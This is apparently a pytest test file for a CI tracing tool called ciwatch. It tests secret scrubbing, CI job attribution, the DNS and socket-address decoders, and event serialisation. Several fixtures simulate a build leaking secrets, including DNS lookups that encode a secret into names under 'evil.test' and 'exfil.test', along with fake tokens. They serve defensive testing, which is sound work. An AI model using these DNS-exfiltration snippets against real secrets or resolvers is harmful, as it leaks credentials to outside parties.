"""Secrets stay out of the record; every line names the CI job it belongs to. Plus unit tests
of the scrubber, the network decoders and the event (de)serialisation."""

from __future__ import annotations

import base64
import dataclasses
import functools
import json
import socket
import struct
import subprocess
import sys
import types
import typing
import urllib.parse
from enum import Enum
from pathlib import Path
from typing import Any

import pytest

from ciwatch.job import REDACTED, Scrubber, detect_job
from ciwatch.job.scrub import secret_values
from ciwatch.net.address import SocketAddress, decode_sockaddr
from ciwatch.net.dns import DnsQuestion, decode_dns_query
from ciwatch.record.codec import EVENT_TYPES, from_json_dict, to_json_dict
from ciwatch.record.events import DnsQuery, FileWrite, NetConnect, ProcessExec
from ciwatch.record.vocabulary import EventKind
from tests.support.runner import ciwatch_command

SECRET = "supersecretvalue123"
GITHUB_STYLE_TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"  # ghp_ + 36 alphanumerics


@pytest.fixture
def traced(ciwatch):  # type: ignore[no-untyped-def]
    """``ciwatch run --net off``: the tracer without the egress proxy (a second a run)."""
    return functools.partial(ciwatch, "--net", "off")


def raw_record(run) -> bytes:  # type: ignore[no-untyped-def]
    return run.out_dir.joinpath("record.jsonl").read_bytes()


def dns_query_payload(name: str, qtype: int = 1, *, query_id: int = 0x4242) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", query_id, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, 1)


# -- secrets in a real run -----------------------------------------------------------------


def test_secret_values_never_reach_the_record(ciwatch, tmp_path):
    target = tmp_path / f"x-{SECRET}"
    # A DNS query for <secret>.evil.test (exfiltration by lookup) sent to a port nobody serves.
    dns = (
        "import socket, struct; "
        "q = struct.pack('>HHHHHH', 1, 0x100, 1, 0, 0, 0) + "
        f"b'\\x13{SECRET}\\x04evil\\x04test\\x00' + b'\\x00\\x01\\x00\\x01'; "
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', 53))"
    )
    script = f'echo {SECRET} > {target}; /bin/echo "expanded: $MY_API_TOKEN" >/dev/null; {sys.executable} -c "{dns}"'
    env = {"MY_API_TOKEN": SECRET, "npm_lifecycle_script": f"deploy --key {SECRET}"}
    run = ciwatch("--", "sh", "-c", script, f"--flag={SECRET}", env=env)
    assert run.code == 0, run.stderr
    assert target.read_text() == f"{SECRET}\n"  # the build itself is untouched
    assert SECRET.encode() not in raw_record(run)
    record = run.record
    assert REDACTED in " ".join(record.header.command)
    [write] = [w for w in run.events(FileWrite) if w.path.startswith(str(tmp_path))]
    assert write.path == str(tmp_path / f"x-{REDACTED}")
    echo = next(e for e in run.events(ProcessExec) if e.argv[:1] == ["/bin/echo"])
    assert echo.argv == ["/bin/echo", f"expanded: {REDACTED}"]
    assert echo.env["npm_lifecycle_script"] == f"deploy --key {REDACTED}"
    [query] = run.events(DnsQuery)
    assert query.name == f"{REDACTED}.evil.test"


#: The build writes, execs and looks up the secret in these spellings; none may reach the record,
#: verdict.json, the terminal report or GitHub's annotations.
_BUILD_WITH_SPELLINGS = r"""
import os, socket, struct, subprocess, sys
out, names = sys.argv[1], sys.argv[2:]
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 0))  # the build's own loopback port: no resolver ever sees the names
for index, spelled in enumerate(names):
    path = os.path.join(out, f"run-{index}-" + spelled.replace("/", "_"))
    with open(path, "w") as script:
        script.write("#!/bin/sh\nexit 0\n")
    os.chmod(path, 0o755)
    subprocess.run([path, spelled, f"https://h.test/?q={spelled}"], check=True)
    if spelled.isalnum():
        labels = [spelled[i : i + 40] for i in range(0, len(spelled), 40)] + ["exfil", "test"]
        qname = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
        query = struct.pack(">HHHHHH", index, 0x100, 1, 0, 0, 0) + qname + struct.pack(">HH", 1, 1)
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, server.getsockname())
"""


def _spellings(secret: str) -> list[str]:
    raw = secret.encode()
    return [
        urllib.parse.quote(secret, safe=""),
        "".join(f"%{byte:02x}" for byte in raw),
        base64.b64encode(raw).decode(),
        base64.b64encode(b"a" + raw).decode().rstrip("="),
        base64.urlsafe_b64encode(b"ab" + raw).decode(),
        raw.hex(),
        raw.hex().upper(),
        base64.b32encode(b"xyz" + raw).decode().rstrip("=").lower(),
        raw.hex() * 3,  # long enough to be split across DNS labels
    ]


def test_encoded_secret_values_never_reach_record_verdict_report_or_annotations(ciwatch, tmp_path):
    secret = "Pa55/w0rd+" + SECRET
    spellings = _spellings(secret)
    build = tmp_path / "build"
    build.mkdir()
    env = {"DEPLOY_PASSWORD": secret, "GITHUB_ACTIONS": "true"}
    run = ciwatch(
        "--net",
        "off",
        "--mode",
        "warn",
        "--",
        sys.executable,
        "-c",
        _BUILD_WITH_SPELLINGS,
        str(build),
        *spellings,
        env=env,
    )
    assert run.code == 0, run.stderr
    assert len(list(build.iterdir())) == len(spellings)  # the build itself is untouched
    report = subprocess.run([*ciwatch_command(), "report", str(run.out_dir)], capture_output=True, text=True)
    seen = {
        "record.jsonl": run.out_dir.joinpath("record.jsonl").read_text(errors="replace"),
        "verdict.json": run.out_dir.joinpath("verdict.json").read_text(errors="replace"),
        "terminal report and annotations": run.stdout + run.stderr,
        "ciwatch report": report.stdout + report.stderr,
    }
    assert "::" in run.stdout, "expected GitHub annotations for the executables the build wrote"
    assert "exfil" in seen["record.jsonl"] and REDACTED in seen["record.jsonl"]
    for where, text in seen.items():
        for spelled in spellings:
            core = spelled[3:-3]  # an edge character of base64 also holds its neighbours' bits
            assert core not in text and core.lower() not in text.lower(), f"{where} holds {spelled}"


def test_url_credentials_and_token_formats_are_redacted(traced):
    url = "https://user:pa55word@host.test/x"
    run = traced("--", "/bin/echo", url, GITHUB_STYLE_TOKEN, f"Authorization: Bearer {GITHUB_STYLE_TOKEN[::-1]}")
    assert run.code == 0, run.stderr
    raw = raw_record(run)
    for leaked in (b"pa55word", GITHUB_STYLE_TOKEN.encode(), GITHUB_STYLE_TOKEN[::-1].encode()):
        assert leaked not in raw
    echo = next(e for e in run.events(ProcessExec) if e.argv[:1] == ["/bin/echo"])
    assert echo.argv[1:] == [f"https://user:{REDACTED}@host.test/x", REDACTED, f"Authorization: Bearer {REDACTED}"]


GITHUB_ENV = {
    "GITHUB_ACTIONS": "true",
    "GITLAB_CI": "",
    "GITHUB_REPOSITORY": "octo-org/octo-repo",
    "GITHUB_RUN_ID": "987654321",
    "GITHUB_RUN_ATTEMPT": "2",
    "GITHUB_JOB": "build",
    "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
    "GITHUB_WORKFLOW": "CI",
    "GITHUB_TOKEN": "ghs_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2",
    "ACTIONS_RUNTIME_TOKEN": "runtime-token-value-xyz",
}


def test_github_actions_job_attribution(traced):
    run = traced("--", "sh", "-c", 'exec /bin/echo "$GITHUB_TOKEN" "$ACTIONS_RUNTIME_TOKEN"', env=GITHUB_ENV)
    assert run.code == 0, run.stderr
    assert run.stdout == f"{GITHUB_ENV['GITHUB_TOKEN']} {GITHUB_ENV['ACTIONS_RUNTIME_TOKEN']}\n"
    context = run.record.header.job_context
    assert context["provider"] == "github"
    for name in ("GITHUB_REPOSITORY", "GITHUB_RUN_ID", "GITHUB_RUN_ATTEMPT", "GITHUB_JOB", "GITHUB_SHA"):
        assert context[name] == GITHUB_ENV[name]
    assert "GITHUB_TOKEN" not in context and "ACTIONS_RUNTIME_TOKEN" not in context
    lines = [json.loads(line) for line in raw_record(run).splitlines()]
    assert {line["job"] for line in lines} == {"github:octo-org/octo-repo/987654321/2/build"}
    assert lines[-1]["kind"] == "end"
    raw = raw_record(run)
    assert GITHUB_ENV["GITHUB_TOKEN"].encode() not in raw
    assert GITHUB_ENV["ACTIONS_RUNTIME_TOKEN"].encode() not in raw


def test_gitlab_ci_job_attribution(traced):
    env = {
        "GITHUB_ACTIONS": "",
        "GITLAB_CI": "true",
        "CI_PROJECT_PATH": "group/sub/project",
        "CI_PIPELINE_ID": "4242",
        "CI_JOB_ID": "777",
        "CI_JOB_NAME": "test",
        "CI_COMMIT_SHA": "fedcba9876543210fedcba9876543210fedcba98",
        "CI_JOB_TOKEN": "glcbt-job-token-value-1234567890",
    }
    run = traced("--", "sh", "-c", 'exec /bin/echo "$CI_JOB_TOKEN" >/dev/null', env=env)
    assert run.code == 0, run.stderr
    context = run.record.header.job_context
    assert context["provider"] == "gitlab"
    assert (context["CI_PROJECT_PATH"], context["CI_PIPELINE_ID"], context["CI_JOB_ID"]) == (
        "group/sub/project",
        "4242",
        "777",
    )
    assert "CI_JOB_TOKEN" not in context
    lines = [json.loads(line) for line in raw_record(run).splitlines()]
    assert {line["job"] for line in lines} == {"gitlab:group/sub/project/4242/777"}
    assert env["CI_JOB_TOKEN"].encode() not in raw_record(run)


def test_local_runs_are_attributed_to_user_host_and_start(traced):
    run = traced("--", "true", env={"GITHUB_ACTIONS": "", "GITLAB_CI": ""})
    header = run.record.header
    assert header.job_context["provider"] == "local"
    lines = [json.loads(line) for line in raw_record(run).splitlines()]
    expected = f"local:{header.job_context['user']}@{header.job_context['host']}/{header.started_at}"
    assert {line["job"] for line in lines} == {expected}


# -- Scrubber ------------------------------------------------------------------------------


def test_secret_values_come_from_secret_looking_names_only():
    env = {
        "MY_API_TOKEN": "token-value-1",
        "DB_PASSWORD": "hunter2hunter2",
        "AWS_SECRET_ACCESS_KEY": "aws-secret-value",
        "DEPLOY_KEY": "deploy-key-value",
        "SHORT_TOKEN": "abc",  # too short to be told from chance
        "HOME": "/root-home-dir",
        "PATH": "/usr/bin:/bin",
    }
    values = secret_values(env)
    assert set(values) == {"token-value-1", "hunter2hunter2", "aws-secret-value", "deploy-key-value"}
    assert [len(v) for v in values] == sorted((len(v) for v in values), reverse=True)


def test_scrubber_replaces_the_longest_secret_first():
    scrubber = Scrubber(secret_values({"A_TOKEN": "abcdef", "B_TOKEN": "abcdefghij"}))
    assert scrubber.text("x abcdefghij y abcdef") == f"x {REDACTED} y {REDACTED}"


@pytest.mark.parametrize(
    "token",
    [
        GITHUB_STYLE_TOKEN,
        "github_pat_" + "A" * 22 + "_" + "b" * 59,
        "glpat-" + "x" * 20,
        "AKIA" + "ABCDEFGHIJKLMNOP",
        "xoxb-" + "1234567890-abcdef",
        "npm_" + "a" * 36,
        "pypi-AgE" + "I" * 60,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_scrubber_redacts_token_formats(token):
    scrubbed = Scrubber([]).text(f"before {token} after")
    assert token not in scrubbed
    assert scrubbed == f"before {REDACTED} after"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://user:pa55word@host.test/x", f"https://user:{REDACTED}@host.test/x"),
        (
            "git clone https://x-access-token:s3cr3t@host.test/o/r.git",
            f"git clone https://x-access-token:{REDACTED}@host.test/o/r.git",
        ),
        ("--token=abc123", f"--token={REDACTED}"),
        ("--password hunter2", f"--password {REDACTED}"),
        ("Authorization: Bearer abc.def", f"Authorization: Bearer {REDACTED}"),
        ("https://host.test/x?user=me", "https://host.test/x?user=me"),
        ("plain text, no secret: 12345", "plain text, no secret: 12345"),
    ],
)
def test_scrubber_redacts_credentials_in_urls_and_options(text, expected):
    assert Scrubber([]).text(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "/home/runner/work/desk-top-application-builder/desk-top-application-builder/src",
        "pip install task-orchestrator-service",
        "kiosk-mode-display-controller-v2",
        "risk-management-dashboard-frontend",
        "MASKAKIA0123456789ABCDEF",
    ],
)
def test_scrubber_leaves_words_that_merely_contain_a_token_prefix(text):
    assert Scrubber([]).text(text) == text


def test_scrubber_event_scrubs_nested_strings_and_keeps_the_rest():
    scrubber = Scrubber([SECRET])
    event = ProcessExec(
        pid=7,
        path=f"/tmp/{SECRET}/run",
        exe="/usr/bin/dash",
        argv=["sh", "-c", f"echo {SECRET}"],
        cwd="/work",
        env={"npm_lifecycle_script": f"x {SECRET}"},
    )
    scrubbed = scrubber.event(event)
    assert scrubbed.path == f"/tmp/{REDACTED}/run"
    assert scrubbed.argv == ["sh", "-c", f"echo {REDACTED}"]
    assert scrubbed.env == {"npm_lifecycle_script": f"x {REDACTED}"}
    assert (scrubbed.pid, scrubbed.exe, scrubbed.cwd) == (7, "/usr/bin/dash", "/work")
    assert event.argv == ["sh", "-c", f"echo {SECRET}"], "the original event is not modified"
    clean = NetConnect(pid=1, family="inet", address="127.0.0.1", port=80, protocol="tcp", result=0)
    assert scrubber.event(clean) is clean


def test_scrubber_keeps_non_utf8_text_lossless():
    raw = b"/tmp/\xff\xfe/" + SECRET.encode()
    scrubbed = Scrubber([SECRET]).text(raw.decode("utf-8", "surrogateescape"))
    assert scrubbed.encode("utf-8", "surrogateescape") == b"/tmp/\xff\xfe/" + REDACTED.encode()


# -- netdecode -----------------------------------------------------------------------------


def test_decode_sockaddr_inet_and_inet6():
    inet = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 443) + socket.inet_aton("192.0.2.7") + b"\0" * 8
    assert decode_sockaddr(inet) == SocketAddress("inet", "192.0.2.7", 443)
    inet6 = (
        struct.pack("<H", socket.AF_INET6)
        + struct.pack(">H", 8080)
        + struct.pack("<I", 0)  # flowinfo
        + socket.inet_pton(socket.AF_INET6, "2001:db8::1")
        + struct.pack("<I", 0)  # scope id
    )
    assert decode_sockaddr(inet6) == SocketAddress("inet6", "2001:db8::1", 8080)
    mapped = inet6[:8] + socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1") + inet6[24:]
    assert decode_sockaddr(mapped) == SocketAddress("inet6", "::ffff:7f00:1", 8080)


def test_decode_sockaddr_other_families_and_short_buffers():
    assert decode_sockaddr(struct.pack("<H", socket.AF_UNIX) + b"/run/socket\0") is None
    assert decode_sockaddr(struct.pack("<H", 16) + b"\0" * 10) is None  # netlink
    assert decode_sockaddr(b"") is None
    assert decode_sockaddr(b"\x02") is None
    assert decode_sockaddr(struct.pack("<H", socket.AF_INET) + b"\0\x35") is None  # no address
    assert decode_sockaddr(struct.pack("<H", socket.AF_INET6) + b"\0" * 10) is None


def test_decode_dns_query_udp_and_tcp():
    query = dns_query_payload("leak.example.test", 28)
    assert decode_dns_query(query) == [DnsQuestion("leak.example.test", "AAAA")]
    framed = struct.pack(">H", len(query)) + query
    assert decode_dns_query(framed, tcp=True) == [DnsQuestion("leak.example.test", "AAAA")]
    # Over TCP a resolver may write several messages at once (glibc: A and AAAA).
    second = dns_query_payload("leak.example.test", 1)
    both = framed + struct.pack(">H", len(second)) + second
    assert decode_dns_query(both, tcp=True) == [
        DnsQuestion("leak.example.test", "AAAA"),
        DnsQuestion("leak.example.test", "A"),
    ]


def test_decode_dns_query_types_and_odd_names():
    assert decode_dns_query(dns_query_payload("x.test", 65)) == [DnsQuestion("x.test", "HTTPS")]
    assert decode_dns_query(dns_query_payload("x.test", 99)) == [DnsQuestion("x.test", "TYPE99")]
    root = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\0" + struct.pack(">HH", 2, 1)
    assert decode_dns_query(root) == [DnsQuestion(".", "NS")]
    binary = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\x03a\xffb\x04test\0" + struct.pack(">HH", 16, 1)
    assert decode_dns_query(binary) == [DnsQuestion("a\\xffb.test", "TXT")]


def test_decode_dns_query_rejects_what_is_not_a_query():
    query = dns_query_payload("leak.example.test")
    response = query[:2] + struct.pack(">H", 0x8180) + query[4:]
    assert decode_dns_query(response) == []
    assert decode_dns_query(b"") == []
    assert decode_dns_query(b"\0" * 11) == []
    assert decode_dns_query(query[:4] + struct.pack(">H", 0) + query[6:]) == []  # no question
    assert decode_dns_query(query[:20]) == []  # cut inside the name
    assert decode_dns_query(query[:-3]) == []  # cut inside the type
    pointer = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack(">HH", 1, 1)
    assert decode_dns_query(pointer) == []
    assert decode_dns_query(b"\x00\x05abc", tcp=True) == []


# -- events --------------------------------------------------------------------------------


def _sample(annotation: Any, name: str) -> Any:
    """A value of the type ``annotation`` (as the dataclass declares it)."""
    origin = typing.get_origin(annotation)
    if origin in (typing.Union, types.UnionType):
        return _sample(next(a for a in typing.get_args(annotation) if a is not type(None)), name)
    if origin is list:
        return [_sample(typing.get_args(annotation)[0], name), _sample(typing.get_args(annotation)[0], name)]
    if origin is dict:
        key, value = typing.get_args(annotation)
        return {_sample(key, name): _sample(value, name)}
    if isinstance(annotation, type) and issubclass(annotation, Enum):
        return list(annotation)[-1]
    samples = {bool: True, int: 42, float: 1.5, str: f"{name}-\udcff-value"}
    return samples[annotation]


def test_every_event_kind_round_trips_through_json():
    assert set(EVENT_TYPES) == set(EventKind), "every kind has an event type"
    for kind in EventKind:
        cls = EVENT_TYPES[kind]
        assert cls.kind is kind
        hints = typing.get_type_hints(cls)
        values = {f.name: _sample(hints[f.name], f.name) for f in dataclasses.fields(cls)}
        event = cls(**values)
        data = to_json_dict(event)
        assert data["kind"] == str(kind)
        assert next(iter(data)) == "kind"
        line = json.dumps(data, ensure_ascii=True)
        back = from_json_dict({**json.loads(line), "a-field-from-the-future": 1})
        assert back == event, kind
        for field in dataclasses.fields(cls):  # enums come back as enums, not bare strings
            assert type(getattr(back, field.name)) is type(getattr(event, field.name)), (kind, field.name)


def test_unknown_kind_is_rejected_by_from_json_dict():
    with pytest.raises(ValueError):
        from_json_dict({"kind": "no-such-kind"})


def test_events_written_by_a_run_read_back_as_typed_events(traced, tmp_path: Path):
    run = traced("--", "sh", "-c", f"echo > {tmp_path}/f.txt")
    kinds = {item.event.kind for item in run.record.events}
    assert {EventKind.PROCESS_START, EventKind.PROCESS_EXEC, EventKind.FILE_WRITE, EventKind.PROCESS_EXIT} <= kinds
    assert [item.seq for item in run.record.events] == list(range(2, 2 + len(run.record.events)))


def test_github_matrix_legs_are_told_apart() -> None:
    # A matrix's legs share GITHUB_JOB; ciwatch's Action passes strategy.job-index.
    legs = [detect_job({**GITHUB_ENV, "CIWATCH_JOB_INDEX": str(index)}, "t") for index in (0, 1)]
    assert [leg.key for leg in legs] == [
        "github:octo-org/octo-repo/987654321/2/build#0",
        "github:octo-org/octo-repo/987654321/2/build#1",
    ]
    assert legs[1].identifiers["CIWATCH_JOB_INDEX"] == "1"
    assert detect_job(GITHUB_ENV, "t").key == "github:octo-org/octo-repo/987654321/2/build"
